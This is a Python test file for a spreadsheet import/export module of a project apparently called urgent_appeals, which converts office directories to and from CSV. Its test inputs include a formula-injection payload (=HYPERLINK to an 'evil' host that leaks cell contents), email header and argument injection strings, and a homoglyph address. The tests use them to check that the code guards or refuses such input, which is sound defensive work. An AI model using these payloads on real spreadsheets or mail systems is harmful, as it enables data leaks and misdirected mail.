"""Tables become directories and directories tables, and no spreadsheet runs what a cell says."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from urgent_appeals.errors import ImportRefused
from urgent_appeals.workspace.exchange.table import guarded, read_table, unguarded, write_table
from urgent_appeals.workspace.yaml_text import read_yaml

RECIPIENTS = Path(__file__).parents[2] / "recipients"


def test_a_directory_is_the_same_after_the_journey_as_far_as_the_columns_go() -> None:
    directory: Any = read_yaml((RECIPIENTS / "arlandia.yaml").read_bytes(), "x").data
    table = write_table(directory)
    imported = read_table(table.encode())
    assert list(imported.offices) == list(directory["offices"])
    assert imported.offices["president"]["name"] == directory["offices"]["president"]["name"]
    assert [holder["from"] for holder in imported.offices["president"]["holders"]] == ["2018-05-01", "2026-05-01"]
    assert write_table({"offices": imported.offices}) == table


def test_the_file_begins_with_what_tells_spreadsheets_its_encoding() -> None:
    table = write_table({"offices": {"a": {"name": "Ж"}}})
    assert table == "\ufeffoffice,name\r\na,Ж\r\n"


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+1", "-2+3", "\t=1", "\r=1", "\n=1", "\uff1d1", "'=1"],
)
def test_a_cell_that_begins_like_a_formula_is_guarded_and_comes_back(cell: str) -> None:
    assert guarded(cell) == "'" + cell
    assert unguarded(guarded(cell)) == cell


@given(st.text(max_size=8))
def test_every_cell_comes_back_from_behind_its_guard(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell


def test_a_formula_in_a_directory_is_text_in_the_table_and_text_again_in_the_directory() -> None:
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    table = write_table({"offices": {"a": {"name": formula, "contacts": [{"kind": "fax", "printed": "+999 1"}]}}})
    rows = list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")))
    assert rows[1] == ["a", "'" + formula, "'+999 1"]
    office = read_table(table.encode()).offices["a"]
    assert office["name"] == formula
    assert office["contacts"] == [{"kind": "fax", "printed": "+999 1"}]


def test_a_table_with_semicolons_and_words_in_languages_is_read() -> None:
    imported = read_table("Office;name:en;name:ru;email\na;Judge;Судья;x@y.example\n".encode())
    assert imported.offices == {"a": {"name": {"en": "Judge", "ru": "Судья"}, "email": "x@y.example"}}


@pytest.mark.parametrize(
    "address", ['"a@b.org\r\nRCPT TO:<x@y.z>"', '"a@b.org, spy@evil.example"', "-oQ/tmp@x.org", "minister@gоv.kz"]
)
def test_an_address_that_could_reach_another_is_left_out(address: str) -> None:
    imported = read_table(f"office,email\r\na,{address}\r\n".encode())
    assert "a@b.org, spy@evil.example" not in str(imported.offices)
    assert imported.left_out


@pytest.mark.parametrize(
    ("refused", "words"),
    [
        pytest.param(b"office,secret\na,b\n", "a column 'secret'", id="unknown column"),
        pytest.param(b"office,email:en\na,b\n", "a column 'email:en'", id="language where none is"),
        pytest.param(b"office,office\na,b\n", "twice", id="a column twice"),
        pytest.param(b"note\na\n", "no column office or name", id="no office"),
        pytest.param(b"office\na,b\n", "row 2", id="too many cells"),
        pytest.param(b'office\n"a\n', "not CSV", id="open quotation mark"),
        pytest.param(b"\xff\xfeo", "UTF-8", id="UTF-16"),
        pytest.param("office;name\na;Судья\n".encode("windows-1251"), "windows-1251", id="windows-1251"),
        pytest.param(b"office\na\x00b\n", "control", id="NUL"),
        pytest.param(b"office\n" + b"".join(b"a%d\n" % n for n in range(6000)), "more than 5000", id="too many"),
    ],
)
def test_a_hostile_table_is_refused(refused: bytes, words: str) -> None:
    with pytest.raises(ImportRefused, match=words):
        read_table(refused)


def test_every_address_of_an_office_travels_with_its_days() -> None:
    office = {
        "name": "Judge",
        "holders": [{"name": "Osric Talvane", "from": "2020-01-01"}],
        "address": [
            {"lines": {"*": ["1 Old Wharf", "Orseval"]}, "until": "2003-06"},
            {"lines": {"en": ["22 Assize Street"], "ru": ["Судная ул., 22"]}, "from": "2003-07-01"},
            {"lines": {"*": ["PO Box 1"]}},
        ],
    }
    table = write_table({"offices": {"judge": office}})
    assert read_table(table.encode()).offices == {"judge": office}


def test_a_further_row_of_an_office_adds_how_to_reach_it() -> None:
    imported = read_table(b"office,email,fax\na,x@y.example,1\na,z@y.example,1\n").offices["a"]
    assert imported == {"email": ["x@y.example", "z@y.example"], "contacts": [{"kind": "fax", "printed": "1"}]}


@pytest.mark.parametrize("table", ["sep=;\r\noffice;name\r\na;Судья\r\n", "\ufeffoffice\tname\r\na\tСудья\r\n"])
def test_what_spreadsheets_write_in_place_of_commas_is_read(table: str) -> None:
    assert read_table(table.encode()).offices == {"a": {"name": "Судья"}}


CELLS = (
    st.text(st.characters(exclude_categories=["Cs", "Cc", "Zl", "Zp", "Cf", "Cn"]), max_size=12)
    .map(lambda text: " ".join(unicodedata.normalize("NFC", text.replace("=?", "")).split()))
    .filter(bool)
)
WORDED = st.dictionaries(st.sampled_from(["en", "ru", "zh-Hans"]), CELLS, min_size=1) | CELLS
DAYS = st.sampled_from(["2003", "2003-07", "2003-07-01"])
DATES = st.fixed_dictionaries({}, optional={"from": DAYS, "until": DAYS})
ADDRESSES = st.builds(
    lambda lines, dates: {"lines": lines} | dates,
    st.dictionaries(st.sampled_from(["*", "en", "ru"]), st.lists(CELLS, min_size=1, max_size=3), min_size=1),
    DATES,
)
OFFICES = st.fixed_dictionaries(
    {"name": WORDED},
    optional={
        "holders": st.lists(
            st.builds(lambda name, dates: {"name": name} | dates, WORDED, DATES), min_size=1, max_size=3
        ),
        "address": st.lists(ADDRESSES, min_size=1, max_size=3, unique_by=str),
        "note": CELLS,
    },
)


@given(st.dictionaries(st.sampled_from(["a", "b", "c"]), OFFICES, min_size=1))
def test_whatever_the_columns_can_say_comes_back(offices: dict[str, Any]) -> None:
    assert read_table(write_table({"offices": offices}).encode()).offices == offices
